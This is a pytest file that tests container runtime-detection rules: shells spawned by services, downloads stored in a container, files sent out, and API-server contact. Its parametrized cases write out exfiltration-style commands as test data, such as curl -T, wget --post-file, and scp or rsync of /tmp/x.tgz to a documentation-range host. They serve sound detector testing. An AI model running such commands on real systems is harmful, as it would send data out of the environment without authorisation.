from pathlib import Path

import pytest
import yaml
from shipped_scenes import SCENES
from shipped_world import World, connects, rules_that_speak, runs

from tiercel.shipped import shipped_rules


def names_of_rules(*, audit: bool) -> set[str]:
    return {
        item["rule"]
        for file in shipped_rules()
        for item in yaml.safe_load(file.read_text())
        if "rule" in item and (item.get("source") == "k8s_audit") is audit
    }


def test_each_rule_has_its_scenes() -> None:
    assert SCENES.keys() == names_of_rules(audit=False)


@pytest.mark.parametrize("rule", SCENES)
def test_it_fires(rule: str, tmp_path: Path) -> None:
    assert rule in rules_that_speak(SCENES[rule][0], tmp_path)


@pytest.mark.parametrize("rule", SCENES)
def test_it_does_not_fire_on_a_near_miss(rule: str, tmp_path: Path) -> None:
    assert rule not in rules_that_speak(SCENES[rule][1], tmp_path)


def quiet(world: World) -> None:
    """A service that works, is looked after, and is deployed."""
    node = world.node
    client = node.accept(world.service, ("10.244.0.5", 40000), ("10.244.2.9", 8080))
    node.receive(world.service, client, b"GET / HTTP/1.1\r\n")
    node.read(world.service, "/srv/templates/page.html")
    node.connect(world.service, ("10.244.2.9", 50100), ("10.244.2.20", 5432), pending=True)
    node.write(world.service, "/tmp/cache-1", b"x")
    node.send(world.service, client, b"HTTP/1.1 200 OK\r\n")
    node.execute(world.runtime(), "/usr/bin/curl", "-fsS", "http://127.0.0.1:8080/ready", exe="curl")
    apt = world.started(world.host_shell, "/usr/bin/apt-get", "upgrade")
    node.write(apt, "/usr/bin/bash", b"x", 0o755, layer="")
    cron = world.started(world.cron, "/usr/bin/dash", "-c", "/usr/sbin/logrotate /etc/logrotate.conf")
    world.started(cron, "/usr/sbin/logrotate", "/etc/logrotate.conf")


def test_a_quiet_node_is_quiet(tmp_path: Path) -> None:
    assert rules_that_speak(quiet, tmp_path) == set()


def test_the_clusters_own_namespace_may_ask_the_api_server(tmp_path: Path) -> None:
    scene = connects("runtime", ("/manager",), "10.96.0.1", 443)
    rule = "API server contacted from a container"
    assert rule in rules_that_speak(scene, tmp_path)
    assert rule not in rules_that_speak(scene, tmp_path, namespace="kube-system")


def test_what_a_package_manager_starts_is_its_own_affair(tmp_path: Path) -> None:
    def scene(world: World) -> None:
        apt = world.started(world.below_service(), "/usr/bin/apt-get", "install", "gcc")
        world.started(
            world.started(apt, "/usr/bin/dpkg", "--configure", "-a"), "/var/lib/dpkg/info/gcc.postinst"
        )

    spoken = rules_that_speak(scene, tmp_path)
    assert spoken == {"Package management in a container"}


@pytest.mark.parametrize(
    ("parent", "args", "fires"),
    [
        ("/usr/bin/python3.11", ("-c", "ls | wc -l"), True),
        ("/usr/bin/python3.11", ("-c", "ls $(cat x)"), True),
        ("/usr/bin/python3.11", (), True),
        ("/usr/bin/python3.11", ("-i",), True),
        ("/usr/bin/python3.11", ("-c", "gzip -9 /tmp/spool"), False),
        ("/usr/bin/python3.11", ("/srv/job.sh",), False),
        ("/usr/sbin/nginx", ("-c", "ls"), True),
        ("/usr/bin/redis-server", ("-c", "ls"), True),
    ],
)
def test_which_shells_below_a_service_speak(
    parent: str, args: tuple[str, ...], fires: bool, tmp_path: Path
) -> None:
    def scene(world: World) -> None:
        world.started(world.started(world.service, parent, "/srv/app"), "/usr/bin/dash", *args, exe="/bin/sh")

    assert ("Service starts a shell" in rules_that_speak(scene, tmp_path)) is fires


@pytest.mark.parametrize(
    ("args", "fires"),
    [
        (("-O", "http://x/y"), True),
        (("-fsSLo", "/opt/y", "http://x/y"), True),
        (("--output", "/opt/y", "http://x/y"), True),
        (("-o/opt/y", "http://x/y"), True),
        (("-s", "http://x/y"), False),
        (("-sfo", "/dev/null", "-w", "%{http_code}", "http://x/y"), False),
        (("-o", "-", "http://x/y"), False),
        (("--version",), False),
    ],
)
def test_which_curl_is_a_download(args: tuple[str, ...], fires: bool, tmp_path: Path) -> None:
    spoken = rules_that_speak(runs("below_service", "/usr/bin/curl", *args), tmp_path)
    assert ("Download stored in a container" in spoken) is fires


@pytest.mark.parametrize(
    ("args", "fires"),
    [
        (("http://x/y",), True),
        (("-q", "http://x/y", "-O", "/tmp/y"), True),
        (("-qO-", "http://x/y"), False),
        (("-q", "-O", "-", "http://x/y"), False),
        (("-q", "--spider", "http://x/health"), False),
        (("-O", "/dev/null", "http://x/y"), False),
    ],
)
def test_which_wget_is_a_download(args: tuple[str, ...], fires: bool, tmp_path: Path) -> None:
    spoken = rules_that_speak(runs("below_service", "/usr/bin/wget", *args), tmp_path)
    assert ("Download stored in a container" in spoken) is fires


@pytest.mark.parametrize(
    ("program", "args", "fires"),
    [
        ("curl", ("-T", "/tmp/x.tgz", "https://x/"), True),
        ("curl", ("-F", "file=@/tmp/x.tgz", "https://x/"), True),
        ("curl", ("--data-binary", "@/tmp/x.tgz", "https://x/"), True),
        ("curl", ("-d", "a=b", "https://x/"), False),
        ("wget", ("--post-file=/tmp/x.tgz", "https://x/"), True),
        ("scp", ("/tmp/x.tgz", "eve@203.0.113.77:/srv"), True),
        ("scp", ("eve@203.0.113.77:/srv/x", "/tmp"), False),
        ("rsync", ("-a", "/srv/", "203.0.113.77:/srv"), True),
        ("rsync", ("-a", "/srv/", "/backup/"), False),
    ],
)
def test_what_sends_a_file_out(program: str, args: tuple[str, ...], fires: bool, tmp_path: Path) -> None:
    spoken = rules_that_speak(runs("below_service", f"/usr/bin/{program}", *args), tmp_path)
    assert ("File sent out of a container" in spoken) is fires
